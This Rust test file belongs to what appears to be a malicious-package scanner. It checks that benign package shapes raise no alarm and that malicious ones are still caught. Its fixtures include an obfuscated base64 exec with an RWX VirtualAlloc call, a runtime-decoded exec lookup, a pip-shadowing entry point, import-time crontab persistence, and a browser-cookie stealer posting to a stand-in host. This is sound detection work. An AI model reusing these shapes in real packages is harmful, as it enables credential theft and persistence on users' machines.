//! Issue 13: classes of false alarm seen on popular packages and fresh environments,
//! each fixed by a principle rather than an exception list. Every case is the benign
//! shape (must not match) beside the malicious shape it must still catch.
#![allow(clippy::unwrap_used)]

mod common;

use assay_core::{Artifact, ArtifactFormat, Severity, Verdict};
use common::entry;

fn artifact(name: &str, format: ArtifactFormat, files: &[(&str, &[u8])]) -> Artifact {
    let mut a = Artifact::new(name, format);
    for (p, d) in files {
        a.entries.push(entry(p, d));
    }
    a
}

fn codes(a: &Artifact) -> Vec<(String, Severity, String)> {
    assay_rules::analyze_artifact(a)
        .findings
        .into_iter()
        .map(|f| (f.rule.code().to_owned(), f.severity, f.location.path))
        .collect()
}

fn verdict(a: &Artifact) -> Verdict {
    assay_rules::score(&assay_rules::analyze_artifact(a).findings).0
}

const SHELLCODE: &[u8] = b"import base64, ctypes\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2VjaG8gYXNzYXktY2FuYXJ5Jyk='))\nptr = ctypes.windll.kernel32.VirtualAlloc(0, 64, 0x3000, 0x40)\n";

/// Type stubs never run: a "shellcode loader" in a `.pyi` is no finding; the same code in
/// a `.py` module still is.
#[test]
fn type_stubs_are_not_code() {
    let meta: &[u8] = b"Metadata-Version: 2.1\nName: stubs\nVersion: 1.0\n";
    let stub = artifact(
        "stubs-1.0-py3-none-any.whl",
        ArtifactFormat::Wheel,
        &[
            ("stubs-1.0.dist-info/METADATA", meta),
            ("stubs/_typeshed/ctypes.pyi", SHELLCODE),
        ],
    );
    assert!(
        codes(&stub).iter().all(|(c, _, _)| !c.starts_with("PY")),
        "{:?}",
        codes(&stub)
    );
    let module = artifact(
        "stubs-1.0-py3-none-any.whl",
        ArtifactFormat::Wheel,
        &[
            ("stubs-1.0.dist-info/METADATA", meta),
            ("stubs/loader.py", SHELLCODE),
        ],
    );
    assert!(
        codes(&module).iter().any(|(c, _, _)| c.starts_with("PY")),
        "{:?}",
        codes(&module)
    );
}

/// In an environment, pip's own `pip` script is pip's; a distribution vendored inside
/// another (its `.dist-info` nested in a package) is not an install; another
/// distribution that declares `pip` still shadows it.
#[test]
fn environment_scripts_and_vendored_records() {
    let env = artifact(
        "venv",
        ArtifactFormat::Environment,
        &[
            ("pip-24.0.dist-info/METADATA", b"Metadata-Version: 2.1\nName: pip\nVersion: 24.0\n"),
            ("pip-24.0.dist-info/entry_points.txt", b"[console_scripts]\npip = pip._internal.cli.main:main\npip3 = pip._internal.cli.main:main\n"),
            ("pip-24.0.dist-info/RECORD", b""),
            ("setuptools/_vendor/packaging-24.2.dist-info/RECORD", b"packaging/tags.py,sha256=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA,10\n"),
            ("setuptools/_vendor/packaging/tags.py", b"# patched by setuptools\n"),
        ],
    );
    let found = codes(&env);
    assert!(
        !found.iter().any(|(c, _, _)| c == "PKG002" || c == "PKG006"),
        "{found:?}"
    );
    assert_eq!(verdict(&env), Verdict::Clean, "{found:?}");

    let evil = artifact(
        "venv",
        ArtifactFormat::Environment,
        &[
            (
                "helper-1.0.dist-info/METADATA",
                b"Metadata-Version: 2.1\nName: helper\nVersion: 1.0\n",
            ),
            (
                "helper-1.0.dist-info/entry_points.txt",
                b"[console_scripts]\npip = helper.shim:main\n",
            ),
        ],
    );
    assert!(
        codes(&evil).iter().any(|(c, _, _)| c == "PKG002"),
        "{:?}",
        codes(&evil)
    );
}

/// A distribution vendored as plain files deep inside a package (pex ships
/// `pex/vendor/_vendored/pip/pip-20.3.4.dist-info/`) declares no script an installer
/// creates; the package's own top-level metadata still does.
#[test]
fn vendored_dist_info_declares_no_scripts() {
    let sdist = artifact(
        "pex-2.1.tar.gz",
        ArtifactFormat::Sdist,
        &[
            (
                "pex-2.1/PKG-INFO",
                b"Metadata-Version: 2.1\nName: pex\nVersion: 2.1\n",
            ),
            (
                "pex-2.1/pex/vendor/_vendored/pip/pip-20.3.4.dist-info/entry_points.txt",
                b"[console_scripts]\npip = pip._internal.cli.main:main\n",
            ),
        ],
    );
    let found = codes(&sdist);
    assert!(!found.iter().any(|(c, _, _)| c == "PKG002"), "{found:?}");
    let evil = artifact(
        "helper-1.0.tar.gz",
        ArtifactFormat::Sdist,
        &[
            (
                "helper-1.0/PKG-INFO",
                b"Metadata-Version: 2.1\nName: helper\nVersion: 1.0\n",
            ),
            (
                "helper-1.0/helper.egg-info/entry_points.txt",
                b"[console_scripts]\npip = helper.shim:main\n",
            ),
        ],
    );
    let found = codes(&evil);
    assert!(found.iter().any(|(c, _, _)| c == "PKG002"), "{found:?}");
    let wheel = artifact(
        "helper-1.0-py3-none-any.whl",
        ArtifactFormat::Wheel,
        &[
            (
                "helper-1.0.dist-info/METADATA",
                b"Metadata-Version: 2.1\nName: helper\nVersion: 1.0\n",
            ),
            (
                "helper-1.0.dist-info/entry_points.txt",
                b"[console_scripts]\npip = helper.shim:main\n",
            ),
        ],
    );
    let found = codes(&wheel);
    assert!(found.iter().any(|(c, _, _)| c == "PKG002"), "{found:?}");
}

/// `tests/sitecustomize.py` of an sdist configures the test run and is never installed;
/// a root `sitecustomize.py` is.
#[test]
fn test_only_startup_hooks_are_not_installed() {
    let meta: &[u8] = b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n";
    let a = artifact(
        "demo-1.0.tar.gz",
        ArtifactFormat::Sdist,
        &[
            ("demo-1.0/PKG-INFO", meta),
            (
                "demo-1.0/tests/sitecustomize.py",
                b"import coverage\ncoverage.process_startup()\n",
            ),
        ],
    );
    assert!(
        !codes(&a).iter().any(|(c, _, _)| c == "PKG009"),
        "{:?}",
        codes(&a)
    );
    let b = artifact(
        "demo-1.0.tar.gz",
        ArtifactFormat::Sdist,
        &[
            ("demo-1.0/PKG-INFO", meta),
            ("demo-1.0/sitecustomize.py", b"VALUE = 1\n"),
        ],
    );
    assert!(
        codes(&b).iter().any(|(c, _, _)| c == "PKG009"),
        "{:?}",
        codes(&b)
    );
}

/// A restricted evaluator builds its table of allowed builtins by computed lookup
/// (python-hcl2's `safe_eval`): not a critical obfuscator marker, and the package is not
/// malicious. The same lookup of a name decoded at run time (the obfuscators' way to
/// reach `exec`) stays critical.
#[test]
fn restricted_evaluators_builtin_tables_are_not_obfuscation() {
    let meta: &[u8] = b"Metadata-Version: 2.1\nName: q\nVersion: 1.0\n";
    let sandbox: &[u8] = b"_SAFE_NAMES = {'len', 'min', 'max'}\n\
_SAFE_BUILTINS = {\n    name: (__builtins__[name] if isinstance(__builtins__, dict) else getattr(__builtins__, name))\n    for name in _SAFE_NAMES\n}\n\
def safe_eval(expr):\n    return eval(compile(expr, '<q>', 'eval'), {'__builtins__': _SAFE_BUILTINS}, {})\n";
    let a = artifact(
        "q-1.0-py3-none-any.whl",
        ArtifactFormat::Wheel,
        &[
            ("q-1.0.dist-info/METADATA", meta),
            ("q/safe_eval.py", sandbox),
        ],
    );
    let c = codes(&a);
    assert!(
        !c.iter()
            .any(|(r, s, _)| r == "PY012" && *s == Severity::Critical),
        "{c:?}"
    );
    assert!(verdict(&a) < Verdict::Malicious, "{c:?}");
    let hidden: &[u8] = b"_n = bytes([101, 120, 101, 99]).decode()\ngetattr(__builtins__, _n)(\"print('assay-canary')\")\n";
    let b = artifact(
        "q-1.0-py3-none-any.whl",
        ArtifactFormat::Wheel,
        &[
            ("q-1.0.dist-info/METADATA", meta),
            ("q/__init__.py", hidden),
        ],
    );
    assert!(
        codes(&b)
            .iter()
            .any(|(r, s, _)| r == "PY012" && *s == Severity::Critical),
        "{:?}",
        codes(&b)
    );
}

/// A persistence location named in a module-level constant (a cron module's EXAMPLES
/// text) that only runtime code writes is a runtime finding (medium), not import-time
/// (high); the same location written at import time stays high.
#[test]
fn persistence_takes_the_context_of_the_write() {
    let runtime: &[u8] = b"EXAMPLES = r\"\"\"\n- name: job\n  cron: crontab -e\n\"\"\"\n\ndef install(line):\n    with open('/etc/crontab', 'a') as f:\n        f.write(line)\n";
    let import: &[u8] =
        b"PATH = '/etc/crontab'\nwith open(PATH, 'a') as f:\n    f.write('* * * * * true')\n";
    let sev = |src: &[u8]| {
        let a = artifact(
            "pkg-1.0-py3-none-any.whl",
            ArtifactFormat::Wheel,
            &[("pkg/cron.py", src)],
        );
        codes(&a)
            .into_iter()
            .filter(|(c, _, _)| c == "PY009")
            .map(|(_, s, _)| s)
            .max()
    };
    assert_eq!(sev(runtime), Some(Severity::Medium));
    assert_eq!(sev(import), Some(Severity::High));
}

/// A browser store named at runtime by a file that sends nothing (a cookie importer) is
/// medium; the same name in a file that also posts data is the stealer shape (high).
#[test]
fn runtime_stealer_targets_need_a_network_call_in_the_file() {
    let importer: &[u8] = b"import os, sqlite3\n\ndef load(profile):\n    return sqlite3.connect(os.path.join(profile, 'cookies.sqlite'))\n";
    let stealer: &[u8] = b"import os, sqlite3, requests\n\ndef load(profile):\n    db = sqlite3.connect(os.path.join(profile, 'cookies.sqlite'))\n    requests.post('https://example.invalid/c', data=str(db))\n";
    let sev = |src: &[u8]| {
        let a = artifact(
            "pkg-1.0-py3-none-any.whl",
            ArtifactFormat::Wheel,
            &[("pkg/cookies.py", src)],
        );
        codes(&a)
            .into_iter()
            .filter(|(c, _, _)| c == "PY006")
            .map(|(_, s, _)| s)
            .max()
    };
    assert_eq!(sev(importer), Some(Severity::Medium));
    assert_eq!(sev(stealer), Some(Severity::High));
}
